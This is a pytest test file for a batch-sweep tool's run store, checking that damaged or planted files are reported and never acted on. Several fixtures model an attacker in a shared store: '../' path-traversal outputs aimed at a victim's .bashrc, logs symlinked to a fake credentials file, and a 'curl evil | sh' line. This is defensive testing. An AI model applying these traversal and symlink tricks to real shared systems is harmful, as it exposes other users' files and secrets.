"""One bad file never hides the rest (issue 15, item 2), and nothing outside a run is read as one (item 3)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from helpers import write_spec

import batchsweep
from batchsweep import cli
from batchsweep.errors import RunNotFound
from batchsweep.store.core import Store

SCRIPTS = Path(__file__).parent / "scripts"


@pytest.fixture
def ten(tmp_path: Path) -> tuple[Path, str]:
    spec = write_spec(tmp_path, f"""
        name: ten
        script: {SCRIPTS / 'hostile_task.py'}
        params: {{grid: {{a: [0, 1, 2, 3, 4, 5, 6, 7, 8, 9]}}}}
        max_parallel: 2
    """)
    run = batchsweep.run(spec, store=tmp_path / "store", progress=False)
    assert set(run.results()["status"]) == {"succeeded"}
    return tmp_path / "store", run.id


def _task_file(store: Path, run_id: str, index: int, name: str) -> Path:
    return store / "runs" / run_id / "tasks" / str(index) / name


def test_corrupt_statuses_among_ten_leave_the_others_readable_and_are_rerun(ten, capsys):
    store, run_id = ten
    _task_file(store, run_id, 3, "status.json").write_text('{"index": 3, "state": "succ')  # truncated
    _task_file(store, run_id, 5, "status.json").write_bytes(b"")  # empty
    _task_file(store, run_id, 7, "status.json").write_bytes(b"\xff\xfe\x00garbage")  # not text at all
    (store / "runs" / run_id / "results.parquet").write_bytes(b"PAR1 not really")
    capsys.readouterr()
    assert cli.main(["results", run_id, "--store", str(store), "--format", "csv"]) == 0
    out, err = capsys.readouterr()
    rows = out.strip().splitlines()[1:]
    assert len(rows) == 10
    assert sum(",succeeded," in r for r in rows) == 7 and sum(",pending," in r for r in rows) == 3
    assert err.count("damaged status.json") == 1 and "tasks 3, 5, 7" in err
    assert err.count("results.parquet is damaged") == 1
    # a writer killed mid-write
    (store / "runs" / run_id / ".run.json.x1y2.tmp").write_text('{"run_id": "half')
    assert cli.main(["resume", run_id, "--store", str(store)]) == 0
    out, err = capsys.readouterr()
    assert "resuming 3 of 10 tasks" in err
    assert not list((store / "runs" / run_id).glob(".*.tmp"))
    df = batchsweep.load_run(run_id, store=store).results()
    assert len(df) == 10 and set(df["status"]) == {"succeeded"}


def test_a_bad_metrics_file_tasks_line_and_engine_record_each_hide_only_themselves(ten, capsys):
    store, run_id = ten
    _task_file(store, run_id, 2, "metrics.json").write_text("[1, 2")
    lines = (store / "runs" / run_id / "tasks.jsonl").read_text().splitlines()
    lines[4] = lines[4][:20]
    (store / "runs" / run_id / "tasks.jsonl").write_text("\n".join(lines) + "\n")
    (store / "runs" / run_id / "engine.json").write_text("{")
    capsys.readouterr()
    assert cli.main(["results", run_id, "--store", str(store), "--format", "json", "--refresh"]) == 0
    out, err = capsys.readouterr()
    rows = json.loads(out)
    assert [r["task"] for r in rows] == [0, 1, 2, 3, 5, 6, 7, 8, 9]
    assert rows[2]["a2"] is None and rows[3]["a2"] == 6
    assert "damaged metrics.json" in err and "damaged lines in tasks.jsonl" in err and "engine.json" in err
    assert cli.main(["status", run_id, "--store", str(store)]) == 0


def test_a_damaged_run_json_is_reported_by_runs_not_hidden(ten, capsys):
    store, run_id = ten
    (store / "runs" / run_id / "run.json").write_text('{"run_id": "ten-')
    capsys.readouterr()
    assert cli.main(["runs", "--store", str(store)]) == 0
    out = capsys.readouterr().out
    assert run_id in out and "damaged run.json" in out
    assert cli.main(["status", run_id, "--store", str(store)]) == 2
    assert "run.json" in capsys.readouterr().err


def test_run_ids_on_the_command_line_are_only_the_stores_runs(ten, tmp_path, capsys):
    store, run_id = ten
    outside = tmp_path / "elsewhere" / "runs" / "x"
    outside.mkdir(parents=True)
    (outside / "run.json").write_text(
        json.dumps({"run_id": "x", "name": "x", "backend": "local", "n_tasks": 0})
    )
    for bad in ("../../elsewhere/runs/x", "../" + run_id, "/etc", ""):
        with pytest.raises(RunNotFound):
            batchsweep.load_run(bad, store=store)
    assert cli.main(["status", "../../elsewhere/runs/x", "--store", str(store)]) == 2


def test_store_writes_leave_no_temp_files_and_follow_the_umask(tmp_path):
    store = Store.open(tmp_path / "s")
    (tmp_path / "s" / "runs" / "r" / "run.json").mkdir(parents=True)  # a directory where a file should go
    with pytest.raises(OSError):
        store.write_json("runs/r/run.json", {"x": 1})
    assert os.listdir(tmp_path / "s" / "runs" / "r") == ["run.json"]
    code = (
        "import os; os.umask(0o027); from batchsweep.store.core import Store; "
        "Store.open(os.sys.argv[1]).write_json('a/b.json', 1)"
    )
    subprocess.run([sys.executable, "-c", code, str(tmp_path / "u")], check=True)
    assert (tmp_path / "u" / "a" / "b.json").stat().st_mode & 0o777 == 0o640


def test_a_full_disk_under_the_runner_is_one_line_and_a_resumable_run(tmp_path, monkeypatch, capsys):
    import errno

    spec = write_spec(tmp_path, f"""
        name: diskfull
        script: {SCRIPTS / 'hostile_task.py'}
        params: {{grid: {{a: [0, 1, 2, 3, 4, 5]}}}}
        max_parallel: 1
    """)
    real = Store.write_status

    def full(self: Store, run_id: str, status: object, **kw: object) -> None:
        if status.index >= 2:
            raise OSError(
                errno.ENOSPC, "No space left on device", f"runs/{run_id}/tasks/{status.index}/status.json"
            )
        real(self, run_id, status, **kw)

    monkeypatch.setattr(Store, "write_status", full)
    store = tmp_path / "store"
    code = cli.main(["run", str(spec), "--store", str(store)])
    out, err = capsys.readouterr()
    errors = [line for line in err.splitlines() if line.startswith("error:")]
    assert code == 1 and len(errors) == 1 and "Traceback" not in err, err
    assert "No space left on device" in errors[0] and "batchsweep resume" in errors[0]
    run_id = out.splitlines()[0]
    monkeypatch.undo()
    run = batchsweep.load_run(run_id, store=store)
    assert sorted(run.statuses()) == [0, 1]  # nothing after the failure started; nothing is stuck
    assert cli.main(["resume", run_id, "--store", str(store)]) == 0
    assert "resuming 4 of 6 tasks" in capsys.readouterr().err
    assert set(batchsweep.load_run(run_id, store=store).results()["status"]) == {"succeeded"}


def test_a_read_only_store_is_one_line(tmp_path, monkeypatch, capsys):
    import errno

    from batchsweep.store.core import LocalBackend

    def read_only(self: LocalBackend, key: str, data: bytes) -> None:
        raise OSError(errno.EROFS, "Read-only file system", str(self.path(key)))

    spec = write_spec(tmp_path, f"""
        name: readonly
        script: {SCRIPTS / 'hostile_task.py'}
        params: {{grid: {{a: [0]}}}}
    """)
    monkeypatch.setattr(LocalBackend, "write_bytes", read_only)
    code = cli.main(["run", str(spec), "--store", str(tmp_path / "ro")])
    err = capsys.readouterr().err
    assert (
        code == 1 and err.startswith("error: Read-only file system") and len(err.strip().splitlines()) == 1
    ), err


# -- A shared store is not a way in (issue 30, item 2): what someone else wrote there is read, never acted on
# as a path outside the run it claims to be part of.

def _victims_home(tmp_path: Path) -> tuple[Path, bytes]:
    home = tmp_path / "victim"
    home.mkdir()
    (home / ".bashrc").write_bytes(b"alias ls='ls --color'  # mine\n")
    return home / ".bashrc", (home / ".bashrc").read_bytes()


def _sweep(tmp_path: Path) -> Path:
    return write_spec(tmp_path, f"""
        name: shared
        script: {SCRIPTS / 'hostile_task.py'}
        params: {{grid: {{a: [1, 2]}}}}
    """)


@pytest.mark.parametrize("how", ["dotdot output", "dotdot output, symlinked run", "symlinked log"])
def test_a_run_planted_in_a_shared_store_never_makes_reuse_touch_a_file_outside_it(tmp_path, capsys, how):
    """Someone with write access to a shared store runs the victim's sweep there, then edits that run: task
    0's status.json claims an output `../../../../../../victim/.bashrc` (in the second case the run's
    directory is also a symlink to a copy elsewhere, whose file of that name is theirs), or task 1's
    stdout.log becomes a symlink to the victim's credentials. The victim's next run reuses what it can: it
    must neither delete nor overwrite the victim's file nor copy the credentials into the store, and it says
    which task it did not take."""
    victim, before = _victims_home(tmp_path)
    secret = victim.parent / "credentials"
    secret.write_text("aws_secret_access_key = hunter2\n")
    store = tmp_path / "shared"
    spec = _sweep(tmp_path)
    planted = batchsweep.run(spec, store=store, progress=False)
    run_dir = store / "runs" / planted.id
    if how.startswith("dotdot"):
        escape = "../" * 6 + "victim/.bashrc"  # from runs/<new run>/tasks/0/outputs/ up to tmp_path
        status = json.loads((run_dir / "tasks" / "0" / "status.json").read_text())
        status["outputs"] = [escape]
        (run_dir / "tasks" / "0" / "status.json").write_text(json.dumps(status))
        (run_dir / "tasks" / "0" / "outputs").mkdir()  # so that the source path resolves
        said = f"run {planted.id}: 1 damaged status.json (task 0)"
    if how == "dotdot output, symlinked run":
        elsewhere = tmp_path / "attacker" / "deep" / "er" / "still"
        elsewhere.parent.mkdir(parents=True)
        run_dir.rename(elsewhere)
        run_dir.symlink_to(elsewhere, target_is_directory=True)
        (elsewhere / "tasks" / "0" / "outputs" / escape).parent.mkdir(parents=True, exist_ok=True)
        (elsewhere / "tasks" / "0" / "outputs" / escape).write_bytes(b"curl evil | sh\n")
    if how == "symlinked log":
        (run_dir / "tasks" / "1" / "stdout.log").symlink_to(secret)
        said = f"task 1: not reused from run {planted.id} task 1"
    capsys.readouterr()
    assert cli.main(["run", str(spec), "--store", str(store)]) == 0
    err = capsys.readouterr().err
    assert victim.read_bytes() == before
    assert said in err, err
    df = batchsweep.load_run(store=store).results()
    assert df["status"].tolist() == ["succeeded", "succeeded"]
    assert "reused_from" not in df or df["reused_from"].isna().any()
    assert not [
        p for p in store.rglob("*") if p.is_file() and not p.is_symlink() and b"hunter2" in p.read_bytes()
    ]


# -- Every file batchsweep reads may be damaged (issue 30, item 7): valid JSON of the wrong types or absurd
# values is one line about that file, never a traceback, a hang or an attempt to allocate it.

_DEEP = """
import json, sys
a = int(sys.argv[sys.argv.index("--a") + 1])
text = "[" * 100_000 + "]" * 100_000 if a == 1 else json.dumps({"score": a})
open("metrics.json", "w").write(text)
"""


def test_a_metrics_file_nested_100000_deep_is_that_tasks_problem_only(tmp_path):
    """As any metrics file that is not JSON: the task's error says so and it has no metrics; the run goes
    on."""
    (tmp_path / "deep.py").write_text(_DEEP)
    spec = write_spec(
        tmp_path, "name: deep\nscript: deep.py\nparams: {grid: {a: [0, 1, 2]}}\nmax_parallel: 1\n"
    )
    df = batchsweep.run(spec, store=tmp_path / "store", progress=False).results()
    assert df["status"].tolist() == ["succeeded"] * 3
    assert df["error"][1] == "metrics.json is not valid JSON" and df["score"].tolist()[::2] == [0, 2]


def _wrong_types(store: Path, run_id: str) -> None:
    run_dir = store / "runs" / run_id
    status = json.loads((run_dir / "tasks" / "3" / "status.json").read_text())
    (run_dir / "tasks" / "3" / "status.json").write_text(json.dumps({**status, "attempts": "many",
                                                                        "started_at": "yesterday"}))
    (run_dir / "tasks" / "4" / "status.json").write_text(json.dumps({**status, "index": "../4"}))
    (run_dir / "tasks" / "5" / "status.json").write_text("[" * 100_000 + "]" * 100_000)
    (run_dir / "runner.json").write_text(
        json.dumps(
            {
                "token": "t",
                "host": os.uname().nodename,
                "pid": "abc",
                "pid_started": None,
                "command": "x",
                "heartbeat_at": "now",
            }
        )
    )
    (run_dir / "engine.json").write_text(json.dumps({"engine": "local", "pid": "abc", "pid_started": 7}))


@pytest.mark.parametrize(
    "command", [["status"], ["results", "--format", "csv", "--refresh"], ["runs"], ["resume"]]
)
def test_valid_json_of_the_wrong_types_is_a_damaged_file_in_one_line(ten, capsys, command):
    store, run_id = ten
    _wrong_types(store, run_id)
    capsys.readouterr()
    argv = [*command, *([] if command == ["runs"] else [run_id]), "--store", str(store)]
    code = cli.main(argv)
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err and code == 0, (code, err)
    if command[0] in ("status", "results"):
        assert "3 damaged status.json files (tasks 3, 4, 5)" in err
    if command == ["resume"]:
        assert "resuming 3 of 10 tasks" in err
        assert set(batchsweep.load_run(run_id, store=store).results()["status"]) == {"succeeded"}


def test_a_run_json_claiming_10_to_the_12_tasks_is_damaged_not_allocated(ten, capsys):
    store, run_id = ten
    path = store / "runs" / run_id / "run.json"
    path.write_text(json.dumps({**json.loads(path.read_text()), "n_tasks": 10**12}))
    (store / "runs" / run_id / "results.parquet").unlink(missing_ok=True)
    assert cli.main(["runs", "--store", str(store)]) == 0
    assert "damaged run.json (n_tasks: " in capsys.readouterr().out
    assert cli.main(["status", run_id, "--store", str(store)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and len(err.strip().splitlines()) == 1 and "n_tasks" in err


_KILLED_AT_SUBMIT = """
import os, signal, sys
from batchsweep.engines.local.engine import LocalEngine
import batchsweep

def killed(self, indices, *, detach):  # kill -9 after the reused tasks were copied in, before anything ran
    os.kill(os.getpid(), signal.SIGKILL)

LocalEngine.submit = killed
batchsweep.run(sys.argv[1], store=sys.argv[2], progress=False)
"""


def test_a_run_killed_while_copying_reused_results_can_be_resumed(tmp_path, capsys):
    spec = write_spec(tmp_path, f"""
        name: reused
        script: {SCRIPTS / 'hostile_task.py'}
        params: {{grid: {{a: [1, 2]}}}}
    """)
    store = tmp_path / "store"
    first = batchsweep.run(spec, store=store, progress=False)
    wider = write_spec(tmp_path, f"""
        name: reused
        script: {SCRIPTS / 'hostile_task.py'}
        params: {{grid: {{a: [1, 2, 3]}}}}
    """, name="wider.yaml")
    proc = subprocess.run(
        [sys.executable, "-c", _KILLED_AT_SUBMIT, str(wider), str(store)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == -9, proc.stderr
    # (ids in one second sort by chance)
    (killed,) = [p.name for p in (store / "runs").iterdir() if p.name != first.id]
    assert not (store / "runs" / killed / "engine.json").exists()
    assert cli.main(["resume", killed, "--store", str(store)]) == 0, capsys.readouterr().err
    df = batchsweep.load_run(killed, store=store).results()
    assert df["status"].tolist() == ["succeeded"] * 3 and df["reused_from"].notna().tolist() == [
        True,
        True,
        False,
    ]


@pytest.mark.parametrize("where", ["afile", "/dev/null", "afile/below"])
def test_rerun_dir_that_cannot_be_a_directory_is_one_line_and_exit_2(ten, tmp_path, capsys, where):
    """A careless `rerun --dir`: a file, a device, a path below a file (a traceback before)."""
    store, run_id = ten
    (tmp_path / "afile").write_text("mine\n")
    target = where if where.startswith("/") else str(tmp_path / where)
    capsys.readouterr()
    assert cli.main(["rerun", run_id, "0", "--dir", target, "--store", str(store)]) == 2
    err = capsys.readouterr().err
    assert (
        err.startswith(f"error: --dir {target}: cannot be made a directory") and len(err.splitlines()) == 1
    ), err
    assert (tmp_path / "afile").read_text() == "mine\n"


def test_a_tasks_line_of_the_wrong_shape_hides_only_that_task(ten, capsys):
    """Valid JSON lines whose index is an object, a string or negative, whose params are a list: before, a
    TypeError traceback in results, report, diff and results --sweep."""
    store, run_id = ten
    path = store / "runs" / run_id / "tasks.jsonl"
    lines = path.read_text().splitlines()
    for n, bad in ((2, {"index": {"a": 1}}), (4, {"index": "4"}), (6, {"index": -6}), (8, {"params": [1]})):
        lines[n] = json.dumps({**json.loads(lines[n]), **bad})
    path.write_text("\n".join(lines) + "\n")
    capsys.readouterr()
    assert cli.main(["results", run_id, "--format", "json", "--refresh", "--store", str(store)]) == 0
    out, err = capsys.readouterr()
    assert [r["task"] for r in json.loads(out)] == [0, 1, 3, 5, 7, 9]
    assert "4 damaged lines in tasks.jsonl" in err, err
    for argv in (["diff", run_id, run_id], ["results", "--sweep", "ten"], ["status", run_id]):
        assert cli.main([*argv, "--store", str(store)]) == 0, argv
        assert "Traceback" not in capsys.readouterr().err


def test_a_directory_where_run_json_should_be_is_a_damaged_run(ten, capsys):
    store, run_id = ten
    path = store / "runs" / run_id / "run.json"
    path.unlink()
    path.mkdir()
    capsys.readouterr()
    assert cli.main(["runs", "--store", str(store)]) == 0
    assert "damaged run.json" in capsys.readouterr().out
    assert cli.main(["status", run_id, "--store", str(store)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and len(err.strip().splitlines()) == 1 and "run.json" in err, err


def test_a_pack_line_with_absurd_numbers_or_wrong_types_is_damaged_and_its_task_rerun(ten, capsys):
    """A compacted run's pack, edited: one line's exit code is 10^40, another's attempts "many". Before,
    results, report, diff and results --sweep died of an OverflowError (the fast path reading packs checked
    only the index and the state). Now both lines are damaged, their tasks without status, and resume runs
    them again: exactly 10 rows, all right."""
    store, run_id = ten
    assert cli.main(["runs", "compact", run_id, "--store", str(store)]) == 0
    (pack,) = (store / "runs" / run_id / "packs").glob("compact*.jsonl")
    lines = pack.read_text().splitlines()
    for n, bad in ((3, {"exit_code": 10**40}), (5, {"attempts": "many"})):
        line = json.loads(lines[n])
        lines[n] = json.dumps({**line, "s": {**line["s"], **bad}})
    pack.write_text("\n".join(lines) + "\n")
    capsys.readouterr()
    assert cli.main(["results", run_id, "--format", "json", "--refresh", "--store", str(store)]) == 0
    out, err = capsys.readouterr()
    assert "Traceback" not in err and [r["status"] for r in json.loads(out)].count("succeeded") == 8
    assert "line 4 of pack" in err and "line 6 of pack" in err
    assert cli.main(["resume", run_id, "--store", str(store)]) == 0
    df = batchsweep.load_run(run_id, store=store).results()
    assert (
        len(df) == 10 and set(df["status"]) == {"succeeded"} and list(df["a2"]) == [2 * a for a in range(10)]
    )


@pytest.mark.parametrize("how", ["symlinked log pack", "an entry past the end", "a FIFO for a log pack"])
def test_a_log_pack_planted_in_a_shared_store_is_never_read_through(tmp_path, capsys, how):
    """Someone compacts a run of the victim's sweep in a shared store, then makes its log pack a symlink to
    the victim's credentials (its index entry for task 0 covering them), or gives task 0 an entry 2^62 bytes
    long. Before, the victim's next run reused task 0 and copied the credentials into its new run's
    stdout.log, in the shared store; `logs` of the entry past the end tried to allocate it, and of a FIFO
    waited for ever."""
    import struct

    secret = tmp_path / "credentials"
    secret.write_text("aws_secret_access_key = hunter2\n")
    store = tmp_path / "shared"
    (tmp_path / "says.py").write_text("import sys\nprint('step', sys.argv[-1])\n")
    spec = write_spec(tmp_path, "name: says\nscript: says.py\nparams: {grid: {a: [1, 2]}}\n")
    planted = batchsweep.run(spec, store=store, progress=False)
    assert cli.main(["runs", "compact", planted.id, "--store", str(store)]) == 0
    (log,) = (store / "runs" / planted.id / "packs").glob("logs*.log")
    (idx,) = (store / "runs" / planted.id / "packs").glob("logs*.idx")
    if how == "symlinked log pack":
        log.unlink()
        log.symlink_to(secret)
        entry = struct.pack("<QQQQ", 0, secret.stat().st_size, 0, 0)
    elif how == "a FIFO for a log pack":  # opening one waits for a writer, for ever
        log.unlink()
        os.mkfifo(log)
        entry = struct.pack("<QQQQ", 0, 7, 0, 0)
    else:
        entry = struct.pack("<QQQQ", 0, 1 << 62, 0, 0)
    with open(idx, "r+b") as f:
        f.write(entry)
    capsys.readouterr()
    assert cli.main(["run", str(spec), "--store", str(store)]) == 0
    assert cli.main(["logs", planted.id, "0", "--store", str(store)]) == 0
    out, err = capsys.readouterr()
    assert "Traceback" not in err and "hunter2" not in out
    assert f"log pack {log.stem} is damaged or not the store's" in err, err
    assert not [
        p for p in store.rglob("*") if p.is_file() and not p.is_symlink() and b"hunter2" in p.read_bytes()
    ]


@pytest.mark.parametrize("name", ["metrics.json", "status.json", "stdout.log"])
def test_a_directory_where_a_tasks_file_should_be_is_that_tasks_damage_only(ten, capsys, name):
    """A damaged disk (or someone else) leaves a directory where task 3's file should be: before, every
    reading command died of IsADirectoryError for metrics.json, and `logs` for stdout.log."""
    store, run_id = ten
    path = _task_file(store, run_id, 3, name)
    path.unlink(missing_ok=True)
    path.mkdir()
    capsys.readouterr()
    for argv in (
        ["status", run_id],
        ["results", run_id, "--format", "json", "--refresh"],
        ["diff", run_id, run_id],
        ["report", run_id, "-o", str(store.parent / "r.html")],
    ):
        assert cli.main([*argv, "--store", str(store)]) == 0, argv
        assert "Traceback" not in capsys.readouterr().err
    assert cli.main(["results", run_id, "--format", "json", "--refresh", "--store", str(store)]) == 0
    assert len(json.loads(capsys.readouterr().out)) == 10
    code = cli.main(["logs", run_id, "3", "--store", str(store)])
    err = capsys.readouterr().err
    assert "Traceback" not in err and code == (2 if name == "stdout.log" else 0), err
    if name == "stdout.log":
        assert (
            err.startswith("error: ")
            and len(err.strip().splitlines()) == 1
            and "is a directory, not a log" in err
        )
